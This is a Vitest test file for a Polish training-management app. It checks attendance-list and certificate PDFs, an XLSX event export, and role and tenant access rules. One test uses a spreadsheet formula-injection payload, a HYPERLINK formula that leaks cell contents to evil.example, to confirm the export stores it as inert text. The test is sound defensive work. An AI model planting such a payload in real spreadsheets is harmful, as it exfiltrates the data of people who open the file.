import { randomUUID } from "node:crypto";
import ExcelJS from "exceljs";
import { createTranslator } from "next-intl";
import { extractText, getDocumentProxy } from "unpdf";
import { beforeEach, describe, expect, it } from "vitest";
import { CALENDAR_DATE, dateOnly } from "@/lib/dates";
import { saveSessionAttendance } from "@/lib/domain/events/attendance";
import { getAttendanceListData, getCertificateData, getEventExportData } from "@/lib/domain/events/documents";
import { eventWorkbook } from "@/lib/exports/event-xlsx";
import { attendanceListPdf } from "@/lib/exports/pdf/attendance-list";
import { certificatePdf } from "@/lib/exports/pdf/certificate";
import type { TEventsTranslator } from "@/lib/exports/pdf/format";
import pl from "@/lib/i18n/messages/pl.json";
import { contextFor, createTenant, createUser, type TTenantRow, type TUserRow } from "@/tests/factories";
import { appErrorOf } from "@/tests/factories/assertions";
import { polishDaysAgo } from "@/tests/factories/services";
import { createTraining, registerIndividual, registerRepresentatives, type TParticipant, type TTraining } from "@/tests/factories/attendance";

/**
 * The event's documents (issue 14): the attendance list of a session to sign and a participant's
 * certificate as PDFs in Polish — read back as text, as a person or the end-to-end test would — and
 * the event's workbook, where every cell is data and never a formula.
 */

const translator = createTranslator({ locale: "pl", messages: pl, namespace: "events" });
const t: TEventsTranslator = (key, values) => translator(key as never, values as never);

async function pdfPages(buffer: Buffer): Promise<string[]> {
  const pdf = await getDocumentProxy(new Uint8Array(buffer));
  const { text } = await extractText(pdf, { mergePages: false });
  return text;
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")';
const DAY_ONE = polishDaysAgo(8);
const DAY_TWO = polishDaysAgo(1);
const polishDate = (day: string) => new Intl.DateTimeFormat("pl-PL", CALENDAR_DATE).format(dateOnly(day));

let tenant: TTenantRow;
let manager: TUserRow;
let training: TTraining;
let reps: TParticipant[];
let individual: TParticipant;

beforeEach(async () => {
  tenant = await createTenant({ name: "OWES Świętokrzyski Łańcuch" });
  manager = await createUser(tenant, { role: "MANAGER" });
  const trainer = await createUser(tenant, { role: "ANIMATOR", name: "Łucja Źdźbło" });
  training = await createTraining(tenant, {
    createdById: manager.id,
    title: "Zakładanie spółdzielni socjalnej — część ogólna",
    kind: "WORKSHOP",
    sessions: [
      { date: DAY_ONE, startTime: "09:00", endTime: "13:00", durationMinutes: 240, place: "Sala nr 2, ul. Żeromskiego 5, Kielce" },
      { date: DAY_TWO, startTime: "10:00", endTime: "11:30", durationMinutes: 90 },
    ],
    trainers: [{ userId: trainer.id }, { externalName: "Grzegorz Brzęczyszczykiewicz" }],
  });
  reps = await registerRepresentatives(training, manager.id, "Spółdzielnia Socjalna „Żuraw”", ["Józef Żółć", "Ewa Łąkowa"]);
  individual = await registerIndividual(training, manager.id, { name: "Bożena Kałuża" });
});

describe("the attendance list (PDF)", () => {
  it("prints the session in Polish with a signature column, one row per registered person, numbered pages", async () => {
    // Enough people for a second page; a waiting and a cancelled one are not on the list.
    for (let i = 1; i <= 22; i++) await registerIndividual(training, manager.id, { name: `Uczestnik Ślązak ${String(i).padStart(2, "0")}` });
    await registerIndividual(training, manager.id, { name: "Wacław Oczekujący", status: "WAITING" });
    await registerIndividual(training, manager.id, { name: "Cezary Wypisany", status: "CANCELLED" });

    const data = await getAttendanceListData(contextFor(manager), training.sessions[0]?.id ?? "");
    const pages = await pdfPages(await attendanceListPdf(data, t));

    expect(pages).toHaveLength(2);
    const [first = "", second = ""] = pages;
    for (const text of [
      "Lista obecności",
      "Zakładanie spółdzielni socjalnej — część ogólna",
      "Rodzaj: Warsztaty",
      "Forma wsparcia: Szkolenie",
      `Data: ${polishDate(DAY_ONE)} (Sesja 1 z 2)`,
      "Godziny: 09:00–13:00",
      "Miejsce: Sala nr 2, ul. Żeromskiego 5, Kielce",
      "Prowadzący: Grzegorz Brzęczyszczykiewicz, Łucja Źdźbło",
      "Lp.",
      "Imię i nazwisko",
      "Reprezentowany podmiot",
      "Podpis",
      "Józef Żółć",
      "Ewa Łąkowa",
      "Spółdzielnia Socjalna „Żuraw”",
      "Bożena Kałuża",
      "Strona 1 z 2 · OWES Świętokrzyski Łańcuch",
    ]) {
      expect(first).toContain(text);
    }
    // The header row comes again on the next page, and the list goes on where it stopped.
    expect(second).toContain("Imię i nazwisko");
    expect(second).toContain("Podpis");
    expect(second).toContain("Strona 2 z 2 · OWES Świętokrzyski Łańcuch");
    const all = pages.join("\n");
    expect(all).toContain("25.");
    expect(all).not.toContain("26.");
    expect(all).toContain("Uczestnik Ślązak 22");
    expect(all).not.toContain("Wacław Oczekujący");
    expect(all).not.toContain("Cezary Wypisany");
  });
});

describe("the certificate (PDF)", () => {
  it("certifies the sessions a registered person attended and their hours", async () => {
    const [rep] = reps;
    if (!rep) throw new Error("setup");
    const ctx = contextFor(manager);
    await saveSessionAttendance(ctx, training.sessions[0]?.id ?? "", { rows: [{ registrationId: rep.registrationId, status: "PRESENT" }] });
    await saveSessionAttendance(ctx, training.sessions[1]?.id ?? "", { rows: [{ registrationId: rep.registrationId, status: "EXCUSED" }] });

    const data = await getCertificateData(ctx, rep.registrationId);
    const [text = "", ...more] = await pdfPages(await certificatePdf(data, t));

    expect(more).toEqual([]);
    for (const expected of [
      "OWES Świętokrzyski Łańcuch",
      "Zaświadczenie o udziale",
      "Józef Żółć",
      "reprezentujący(-a): Spółdzielnia Socjalna „Żuraw”",
      "„Zakładanie spółdzielni socjalnej — część ogólna”",
      "Rodzaj: Warsztaty, forma wsparcia: Szkolenie",
      `${polishDate(DAY_ONE)}, 09:00–13:00`,
      "Łącznie: 4 godz. (240 min)",
      "podpis i pieczęć",
    ]) {
      expect(text).toContain(expected);
    }
    expect(text).not.toContain(polishDate(DAY_TWO));
  });

  it("is refused to a person present at no session, and to one no longer registered", async () => {
    const ctx = contextFor(manager);
    const waiting = await registerIndividual(training, manager.id, { status: "WAITING" });
    await saveSessionAttendance(ctx, training.sessions[0]?.id ?? "", { rows: [{ registrationId: individual.registrationId, status: "ABSENT" }] });

    for (const registrationId of [individual.registrationId, waiting.registrationId]) {
      const error = await appErrorOf(getCertificateData(ctx, registrationId));
      expect([error.code, error.fieldErrors]).toEqual(["INVALID_STATE", { _form: "notEligible" }]);
    }
  });
});

describe("the event's workbook (XLSX)", () => {
  it("writes every participant with their attendance, support and travel, a formula-like name as text, and no formula anywhere", async () => {
    const [repA, repB] = reps;
    if (!repA || !repB) throw new Error("setup");
    const evil = await registerIndividual(training, manager.id, { name: HYPERLINK });
    const ctx = contextFor(manager);
    await saveSessionAttendance(ctx, training.sessions[0]?.id ?? "", {
      rows: [
        { registrationId: repA.registrationId, status: "PRESENT", materials: true, meals: true, travelReimbursement: "12,50" },
        { registrationId: evil.registrationId, status: "PRESENT", materials: true },
        { registrationId: individual.registrationId, status: "EXCUSED" },
      ],
    });
    await saveSessionAttendance(ctx, training.sessions[1]?.id ?? "", {
      rows: [{ registrationId: repA.registrationId, status: "PRESENT", meals: true, travelReimbursement: "7.5" }],
    });

    const buffer = await eventWorkbook(await getEventExportData(ctx, training.id), t);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as Parameters<typeof workbook.xlsx.load>[0]);

    expect(workbook.worksheets.map((w) => w.name)).toEqual(["Uczestnicy", "Sesje"]);
    const values = (sheet: string) =>
      (workbook.getWorksheet(sheet)?.getSheetValues() ?? []).flatMap((row) => (Array.isArray(row) ? [row.slice(1)] : []));
    const participants = values("Uczestnicy");
    expect(participants[0]).toEqual([
      "Uczestnik",
      "Klient",
      "Status zapisu",
      `Sesja 1 (${DAY_ONE})`,
      `Sesja 2 (${DAY_TWO})`,
      "Otrzymane wsparcie",
      "Zwrot kosztów dojazdu razem (zł)",
      "Obecności",
      "Godziny obecności",
    ]);
    expect(participants.slice(1)).toEqual([
      [`'${HYPERLINK}`, `'${HYPERLINK}`, "Zapisany", "Obecny", "—", "Materiały: 1", 0, 1, 4],
      ["Bożena Kałuża", "Bożena Kałuża", "Zapisany", "Usprawiedliwiony", "—", "", 0, 0, 0],
      ["Ewa Łąkowa", "Spółdzielnia Socjalna „Żuraw”", "Zapisany", "—", "—", "", 0, 0, 0],
      ["Józef Żółć", "Spółdzielnia Socjalna „Żuraw”", "Zapisany", "Obecny", "Obecny", "Materiały: 1, Wyżywienie: 2", 20, 2, 5.5],
    ]);
    expect(values("Sesje").slice(1)).toEqual([
      [1, DAY_ONE, "09:00", "13:00", 240, 4, "Sala nr 2, ul. Żeromskiego 5, Kielce", "", 2, 0, 1],
      [2, DAY_TWO, "10:00", "11:30", 90, 1.5, "Sala konferencyjna, ul. Długa 1, Kielce", "", 1, 0, 0],
    ]);
    const formulas: unknown[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void (cell.formula ? formulas.push(cell.formula) : null))));
    expect(formulas).toEqual([]);
  });
});

describe("who may print them", () => {
  it("refuses a role without events.attendance with FORBIDDEN, and answers NOT_FOUND for another tenant's records", async () => {
    const advisor = contextFor(await createUser(tenant, { role: "KEY_ADVISOR" }));
    const other = await createTenant();
    const otherManager = contextFor(await createUser(other, { role: "MANAGER" }));
    const calls = [
      { call: getAttendanceListData, id: training.sessions[0]?.id ?? "" },
      { call: getCertificateData, id: individual.registrationId },
      { call: getEventExportData, id: training.id },
    ];
    for (const { call, id } of calls) {
      expect((await appErrorOf(call(advisor, id))).code).toBe("FORBIDDEN");
      const foreign = await appErrorOf(call(otherManager, id));
      const missing = await appErrorOf(call(otherManager, randomUUID()));
      expect(foreign.code).toBe("NOT_FOUND");
      expect(foreign.message).toBe(missing.message);
    }
  });
});
